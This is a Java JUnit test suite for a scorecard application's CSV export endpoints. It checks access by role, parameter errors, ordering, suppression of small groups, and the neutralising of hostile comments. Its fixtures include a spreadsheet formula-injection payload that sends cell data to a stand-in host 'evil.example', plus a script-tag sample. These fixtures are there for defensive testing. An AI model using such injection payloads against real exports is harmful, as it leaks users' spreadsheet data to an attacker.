package nl.xlascorecard.sandbox.rest.export;

import static nl.xlascorecard.sandbox.rest.RestApi.ADMIN;
import static nl.xlascorecard.sandbox.rest.RestApi.AGENT;
import static nl.xlascorecard.sandbox.rest.RestApi.ANONYMOUS;
import static nl.xlascorecard.sandbox.rest.RestApi.CUSTOMER;
import static nl.xlascorecard.sandbox.rest.RestApi.SERVICE_MANAGER;
import static nl.xlascorecard.sandbox.rest.RestApi.SM_LIMITED;
import static nl.xlascorecard.sandbox.rest.RestFixture.ORG_A;
import static nl.xlascorecard.sandbox.rest.RestFixture.ORG_B;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.within;

import java.net.http.HttpResponse;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Function;
import java.util.stream.Stream;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.io.TempDir;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;

import nl.xlascorecard.core.rating.domain.RatingObservation;
import nl.xlascorecard.sandbox.SandboxConfig;
import nl.xlascorecard.sandbox.SandboxServer;
import nl.xlascorecard.sandbox.auth.DemoUsers;
import nl.xlascorecard.sandbox.rest.RestApi;
import nl.xlascorecard.sandbox.rest.RestFixture;

/**
 * The CSV exports over real HTTP on a sandbox with its own data ("limit service managers to their
 * own organisations" on): every role against both exports, bad parameters, hostile comments,
 * suppression, and the figures against the JSON result they come from. The CSV is read with a
 * strict RFC 4180 reader, so every answer is also proven well-formed.
 */
class CsvExportRestTest {

    private static final List<String> ROLES = List.of(ADMIN, SERVICE_MANAGER, SM_LIMITED, AGENT, CUSTOMER, ANONYMOUS);
    private static final String HOSTILE = "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Klik hier\")";
    private static final String MESSY = "Hij zei \"nee\"; daarna\r\nniets meer <script>alert(1)</script>, jammer";
    private static final List<String> RATINGS_HEADER = List.of("request_key", "rated_at", "rating", "comment");
    private static final List<String> RESULT_HEADER = List.of("round_id", "scope", "role", "category", "statement", "n",
            "suppressed", "mean", "sd", "ci95_low", "ci95_high", "delta_vs_previous", "significant_vs_previous",
            "delta_vs_baseline", "significant_vs_baseline", "attention");

    @TempDir
    static Path data;
    static SandboxServer server;
    static RestApi api;
    static RestFixture fixture;
    /** A closed round of organisation A with eleven responses: five ICT managers, five executives, one end user. */
    static long elevenResponses;

    @BeforeAll
    static void start() {
        server = SandboxServer.start(SandboxConfig.forTests(data));
        api = new RestApi(server);
        fixture = new RestFixture(api).create(true);
        rate("ITSM-1", 2, Duration.ofMinutes(30), HOSTILE, ORG_A);
        rate("ITSM-2", 5, Duration.ofMinutes(20), MESSY, ORG_A);
        rate("ITSM-3", 4, Duration.ofMinutes(10), null, ORG_A, ORG_B);
        rate("ITSM-4", 1, Duration.ofMinutes(5), "-1 ster, @support bel me", ORG_B);
        rate("ITSM-5", 3, Duration.ofDays(100), "Oud", ORG_A);
        elevenResponses = closedRoundWithElevenResponses();
    }

    @AfterAll
    static void stop() {
        server.stop();
    }

    private static void rate(String key, int stars, Duration ago, String comment, Long... organisations) {
        server.app().recordRatings().record(new RatingObservation(key, Long.parseLong(key.substring(5)),
                List.of(organisations), stars, comment, Instant.now().minus(ago), "customer", "Carla Klant"));
    }

    private static long closedRoundWithElevenResponses() {
        long round = fixture.openRound(ORG_A, "PERIODIC");
        int[][] scores = {{80, 70, 90}, {60, 75, 85}, {90, 65, 70}, {70, 80, 60}, {85, 90, 75}};
        for (String role : List.of("ICT_MANAGER", "EXECUTIVE")) {
            for (int[] respondent : scores) {
                ObjectNode response = fixture.response();
                response.put("role", role);
                ObjectNode s = response.putObject("scores");
                for (int i = 0; i < respondent.length; i++) {
                    s.put(fixture.statementKey(i), respondent[i] - (role.equals("EXECUTIVE") ? 7 : 0));
                }
                api.callOk("POST", "/rounds/" + round + "/responses", response);
            }
        }
        api.callOk("POST", "/rounds/" + round + "/responses", fixture.response());
        api.callOk("POST", "/rounds/" + round + "/close",
                Map.of("version", api.getOk("/rounds/" + round).path("version").asLong()));
        return round;
    }

    // --- who may export -------------------------------------------------------------------------

    enum Rule {
        /** Whoever may read the organisation's data: its service managers, administrators, its agents. */
        SEE,
        /** Only who manages the organisation (an OPEN round's interim result, like the JSON endpoint). */
        MANAGE
    }

    record Export(String name, Rule rule, long organisationId, Function<RestFixture, String> path) {
    }

    @TestFactory
    Stream<DynamicTest> everyExportAsEveryRole() {
        List<Export> exports = new ArrayList<>();
        for (long org : List.of(ORG_A, ORG_B)) {
            String label = org == ORG_A ? " (A)" : " (B)";
            exports.add(new Export("GET /rounds/{id}/result.csv" + label, Rule.SEE, org,
                    f -> "/rounds/" + f.org(org).closedRound() + "/result.csv"));
            exports.add(new Export("GET /rounds/{id}/result.csv of an OPEN round" + label, Rule.MANAGE, org,
                    f -> "/rounds/" + f.org(org).openRound() + "/result.csv"));
            exports.add(new Export("GET /organisations/{id}/ratings.csv" + label, Rule.SEE, org,
                    f -> "/organisations/" + org + "/ratings.csv"));
        }
        List<DynamicTest> tests = new ArrayList<>();
        for (Export export : exports) {
            for (String role : ROLES) {
                int expected = expected(export, role);
                tests.add(DynamicTest.dynamicTest(export.name() + " as " + role + " -> " + expected,
                        () -> check(export, role, expected)));
            }
        }
        return tests.stream();
    }

    /** The spec's access rules, as the JSON endpoints apply them, independently of the code under test. */
    private static int expected(Export export, String role) {
        if (ANONYMOUS.equals(role)) {
            return 401;
        }
        if (CUSTOMER.equals(role)) {
            return 403;
        }
        if (ADMIN.equals(role) || fixture.org(export.organisationId()).manager().equals(role)) {
            return 200;
        }
        if (AGENT.equals(role) && DemoUsers.AGENT_ORGANISATIONS.contains(export.organisationId())) {
            return export.rule() == Rule.SEE ? 200 : 403;
        }
        return 404;
    }

    private static void check(Export export, String role, int expected) {
        String path = export.path().apply(fixture);
        HttpResponse<String> response = api.get(role, path);
        if (expected >= 400) {
            RestApi.assertError(response, expected);
            return;
        }
        List<List<String>> csv = csv(response, ',');
        List<String> header = path.endsWith("ratings.csv") ? RATINGS_HEADER : RESULT_HEADER;
        assertThat(csv.get(0)).isEqualTo(header);
        assertThat(csv).allSatisfy(record -> assertThat(record).hasSameSizeAs(header));
        // the JSON twin answers the same role in the same way
        String json = path.replace("result.csv", "result").replace("ratings.csv", "ratings");
        assertThat(api.get(role, json).statusCode()).isEqualTo(200);
    }

    /** The body of a CSV download, checked for status, type, file name, BOM and RFC 4180 form. */
    private static List<List<String>> csv(HttpResponse<String> response, char separator) {
        assertThat(response.statusCode()).as(RestApi.describe(response)).isEqualTo(200);
        assertThat(response.headers().firstValue("Content-Type")).hasValueSatisfying(type ->
                assertThat(type.replace(" ", "").toLowerCase()).startsWith("text/csv;charset=utf-8"));
        String today = LocalDate.now(ZoneOffset.UTC).toString();
        assertThat(response.headers().firstValue("Content-Disposition")).hasValueSatisfying(disposition ->
                assertThat(disposition).matches("attachment; filename=\"xla-organisation-[0-9]+-[a-z0-9-]+-" + today
                        + "\\.csv\""));
        assertThat(response.headers().firstValue("Cache-Control")).hasValue("no-store");
        assertThat(response.body()).startsWith("\uFEFF");
        RestApi.assertNoInternals(response);
        return Rfc4180.parse(response.body().substring(1), separator);
    }

    @Test
    void hiddenAndMissingGiveIdenticalNotFoundBodies() {
        RestFixture.Organisation hidden = fixture.org(ORG_B);
        Map<String, String> hiddenToMissing = Map.of(
                "/rounds/" + hidden.closedRound() + "/result.csv", "/rounds/987654/result.csv",
                "/organisations/" + hidden.id() + "/ratings.csv", "/organisations/987654/ratings.csv");
        hiddenToMissing.forEach((hiddenPath, missingPath) -> {
            HttpResponse<String> hiddenAnswer = api.get(SERVICE_MANAGER, hiddenPath);
            HttpResponse<String> missingAnswer = api.get(SERVICE_MANAGER, missingPath);
            RestApi.assertError(hiddenAnswer, 404);
            RestApi.assertError(missingAnswer, 404);
            assertThat(hiddenAnswer.body()).as(hiddenPath).isEqualTo(missingAnswer.body());
        });
        RestApi.assertError(api.get(SERVICE_MANAGER, "/organisations/abc/ratings.csv"), 404);
    }

    // --- parameters -----------------------------------------------------------------------------

    @Test
    void badParametersAre400sNamingTheField() {
        String ratings = "/organisations/" + ORG_A + "/ratings.csv";
        String result = "/rounds/" + elevenResponses + "/result.csv";
        for (String days : List.of("0", "-1", "3661", "abc", "9999999999999", "1.5")) {
            RestApi.assertFieldError(api.get(SERVICE_MANAGER, ratings + "?days=" + days), "days");
        }
        for (String separator : List.of("tab", "%3B", "%2C", "SEMICOLON")) {
            RestApi.assertFieldError(api.get(SERVICE_MANAGER, ratings + "?separator=" + separator), "separator");
            RestApi.assertFieldError(api.get(SERVICE_MANAGER, result + "?separator=" + separator), "separator");
        }
        // refusals stay JSON also for a client that asked for CSV only
        HttpResponse<String> asked = api.send(SERVICE_MANAGER,
                api.request(SERVICE_MANAGER, "GET", ratings + "?days=0", null).header("Accept", "text/csv"));
        RestApi.assertFieldError(asked, "days");
        // in the caller's language
        HttpResponse<String> dutch = api.send(SERVICE_MANAGER, api.request(SERVICE_MANAGER, "GET",
                ratings + "?separator=tab", null).header("Accept-Language", "nl"));
        assertThat(RestApi.assertFieldError(dutch, "separator").path("errors").path("separator").asText())
                .startsWith("Kies een van");
        assertThat(api.get(SERVICE_MANAGER, ratings + "?days=3660").statusCode()).isEqualTo(200);
        assertThat(api.get(SERVICE_MANAGER, ratings + "?days=1&separator=comma").statusCode()).isEqualTo(200);
    }

    // --- ratings --------------------------------------------------------------------------------

    @Test
    void ratingsAreExportedNewestFirstWithHostileCommentsQuotedAndNeutralised() {
        HttpResponse<String> response = api.get(SERVICE_MANAGER, "/organisations/" + ORG_A + "/ratings.csv");
        List<List<String>> csv = csv(response, ',');

        assertThat(csv.get(0)).isEqualTo(RATINGS_HEADER);
        assertThat(csv.subList(1, csv.size())).extracting(r -> r.get(0)).containsExactly("ITSM-3", "ITSM-2", "ITSM-1");
        Map<String, List<String>> byKey = new HashMap<>();
        csv.subList(1, csv.size()).forEach(r -> byKey.put(r.get(0), r));
        // neutralised: a spreadsheet shows the text instead of running the formula
        assertThat(byKey.get("ITSM-1").get(3)).isEqualTo("'" + HOSTILE);
        assertThat(response.body()).contains("\"'=HYPERLINK(\"\"http://evil.example/?q=\"\"&A1,\"\"Klik hier\"\")\"");
        // quotes, CRLF, separators and markup survive unchanged inside one quoted field
        assertThat(byKey.get("ITSM-2").get(3)).isEqualTo(MESSY);
        assertThat(byKey.get("ITSM-2").get(2)).isEqualTo("5");
        assertThat(byKey.get("ITSM-3").get(3)).isEmpty();
        assertThat(Instant.parse(byKey.get("ITSM-3").get(1))).isBetween(Instant.now().minus(Duration.ofMinutes(11)),
                Instant.now().minus(Duration.ofMinutes(9)));
        assertThat(byKey.get("ITSM-3").get(1)).endsWith("Z");

        // a window long enough to reach the old rating
        List<List<String>> longer = csv(api.get(SERVICE_MANAGER, "/organisations/" + ORG_A + "/ratings.csv?days=120"), ',');
        assertThat(longer.subList(1, longer.size())).extracting(r -> r.get(0))
                .containsExactly("ITSM-3", "ITSM-2", "ITSM-1", "ITSM-5");

        // organisation B: a comment starting with '-' and '@' is neutralised too
        List<List<String>> b = csv(api.get(SM_LIMITED, "/organisations/" + ORG_B + "/ratings.csv"), ',');
        assertThat(b.subList(1, b.size())).extracting(r -> r.get(0) + " " + r.get(3))
                .containsExactly("ITSM-4 '-1 ster, @support bel me", "ITSM-3 ");
    }

    @Test
    void aSemicolonExportSplitsOnSemicolonsAndKeepsThemInsideComments() {
        List<List<String>> csv = csv(api.get(ADMIN, "/organisations/" + ORG_A + "/ratings.csv?separator=semicolon"), ';');
        assertThat(csv.get(0)).isEqualTo(RATINGS_HEADER);
        assertThat(csv.subList(1, csv.size())).filteredOn(r -> r.get(0).equals("ITSM-2"))
                .singleElement().satisfies(r -> assertThat(r.get(3)).isEqualTo(MESSY));
    }

    @Test
    void manyRatingsStreamInBatchesWithoutLosingOrRepeatingOne() {
        long organisation = DemoUsers.AGENT_ORGANISATIONS.stream().filter(o -> o != ORG_A).findFirst().orElseThrow();
        Instant now = Instant.now();
        for (int i = 0; i < 1234; i++) {
            // ratings 3..5 open no follow-ups; many share a rating time, so batches must break ties by key
            server.app().recordRatings().record(new RatingObservation("BULK-" + (10000 + i), 10000 + i,
                    List.of(organisation), 3 + i % 3, "bulk " + i, now.minusSeconds(60L * (i / 10)), null, null));
        }
        List<List<String>> csv = csv(api.get(AGENT, "/organisations/" + organisation + "/ratings.csv"), ',');
        List<String> keys = csv.subList(1, csv.size()).stream().map(r -> r.get(0)).toList();
        assertThat(keys).hasSize(1234).doesNotHaveDuplicates();
        List<Instant> times = csv.subList(1, csv.size()).stream().map(r -> Instant.parse(r.get(1))).toList();
        assertThat(times).isSortedAccordingTo(Comparator.reverseOrder());
    }

    // --- round result ---------------------------------------------------------------------------

    @Test
    void theResultExportHoldsTheJsonResultsFiguresAndLeavesSuppressedCellsEmpty() {
        JsonNode json = api.getOk("/rounds/" + elevenResponses + "/result");
        List<List<String>> csv = csv(api.get(SERVICE_MANAGER, "/rounds/" + elevenResponses + "/result.csv"), ',');
        assertThat(csv.get(0)).isEqualTo(RESULT_HEADER);
        Map<String, Map<String, String>> rows = new LinkedHashMap<>();
        for (List<String> record : csv.subList(1, csv.size())) {
            Map<String, String> row = new LinkedHashMap<>();
            for (int i = 0; i < RESULT_HEADER.size(); i++) {
                row.put(RESULT_HEADER.get(i), record.get(i));
            }
            assertThat(row.get("round_id")).isEqualTo(String.valueOf(elevenResponses));
            rows.put(row.get("scope") + "/" + row.get("role") + "/" + row.get("category") + "/" + row.get("statement"), row);
        }

        assertStat(rows.get("OVERALL///"), json.path("overall"));
        int statements = 0;
        for (JsonNode category : json.path("categories")) {
            String name = category.path("category").asText();
            Map<String, String> row = rows.get("CATEGORY//" + name + "/");
            assertStat(row, category.path("stat"));
            assertThat(row.get("attention")).isEqualTo(category.path("attention").asText());
            for (JsonNode statement : category.path("statements")) {
                assertStat(rows.get("STATEMENT//" + name + "/" + statement.path("statementKey").asText()),
                        statement.path("stat"));
                statements++;
            }
        }
        for (JsonNode role : json.path("roles")) {
            String name = role.path("role").asText();
            assertStat(rows.get("ROLE/" + name + "//"), role.path("overall"));
            role.path("categories").properties().forEach(entry ->
                    assertStat(rows.get("ROLE_CATEGORY/" + name + "/" + entry.getKey() + "/"), entry.getValue()));
        }
        assertThat(rows).hasSize(1 + json.path("categories").size() + statements + json.path("roles").size()
                * (1 + json.path("categories").size()));

        // eleven respondents: the overall shows; the single end user is suppressed, and so are the five
        // ICT managers (complementary suppression: else the end user follows from the total); the
        // five executives show
        assertThat(rows.get("OVERALL///")).containsEntry("n", "11").containsEntry("suppressed", "false");
        assertThat(rows.get("OVERALL///").get("mean")).isNotEmpty();
        for (String hidden : List.of("ROLE/END_USER//", "ROLE/ICT_MANAGER//", "ROLE_CATEGORY/END_USER/RELIABILITY/")) {
            assertThat(rows.get(hidden)).as(hidden).containsEntry("suppressed", "true").containsEntry("mean", "")
                    .containsEntry("sd", "").containsEntry("ci95_low", "").containsEntry("ci95_high", "");
        }
        assertThat(rows.get("ROLE/END_USER//")).containsEntry("n", "1");
        assertThat(rows.get("ROLE/ICT_MANAGER//")).containsEntry("n", "5");
        assertThat(rows.get("ROLE/EXECUTIVE//")).containsEntry("n", "5").containsEntry("suppressed", "false");
        assertThat(rows.get("ROLE/EXECUTIVE//").get("ci95_low")).isNotEmpty();
        // compared with the previous closed round (one response, so suppressed): no delta to show
        assertThat(rows.get("OVERALL///")).containsEntry("delta_vs_previous", "").containsEntry("significant_vs_previous", "");
    }

    @Test
    void aRoundOfOneResponseIsSuppressedEverywhere() {
        List<List<String>> csv = csv(api.get(SERVICE_MANAGER, "/rounds/" + fixture.org(ORG_A).closedRound()
                + "/result.csv"), ',');
        int n = RESULT_HEADER.indexOf("n");
        int suppressed = RESULT_HEADER.indexOf("suppressed");
        for (List<String> record : csv.subList(1, csv.size())) {
            boolean counted = !record.get(n).isEmpty() && Integer.parseInt(record.get(n)) > 0;
            if (counted) {
                assertThat(record.get(suppressed)).as(record.toString()).isEqualTo("true");
            }
            assertThat(record.subList(RESULT_HEADER.indexOf("mean"), RESULT_HEADER.indexOf("ci95_high") + 1))
                    .as(record.toString()).containsOnly("");
        }
    }

    @Test
    void aSemicolonResultUsesADecimalComma() {
        List<List<String>> comma = csv(api.get(ADMIN, "/rounds/" + elevenResponses + "/result.csv"), ',');
        List<List<String>> semicolon = csv(api.get(ADMIN, "/rounds/" + elevenResponses + "/result.csv?separator=semicolon"),
                ';');
        assertThat(semicolon).hasSameSizeAs(comma);
        int mean = RESULT_HEADER.indexOf("mean");
        for (int i = 1; i < comma.size(); i++) {
            assertThat(semicolon.get(i).get(mean)).isEqualTo(comma.get(i).get(mean).replace('.', ','));
        }
        assertThat(comma.get(1).get(mean)).contains(".");
    }

    private static void assertStat(Map<String, String> row, JsonNode stat) {
        assertThat(row).as("a record for " + stat).isNotNull();
        assertThat(row.get("n")).isEqualTo(stat.path("n").asText());
        assertThat(row.get("suppressed")).isEqualTo(stat.path("suppressed").asText());
        for (String[] pair : new String[][] {{"mean", "mean"}, {"sd", "sd"}, {"ci95_low", "ciLow"}, {"ci95_high", "ciHigh"}}) {
            JsonNode value = stat.path(pair[1]);
            if (value.isNull() || value.isMissingNode()) {
                assertThat(row.get(pair[0])).as(pair[0] + " of " + row).isEmpty();
            } else {
                assertThat(Double.parseDouble(row.get(pair[0]))).as(pair[0] + " of " + row)
                        .isCloseTo(value.asDouble(), within(1e-6));
            }
        }
    }
}
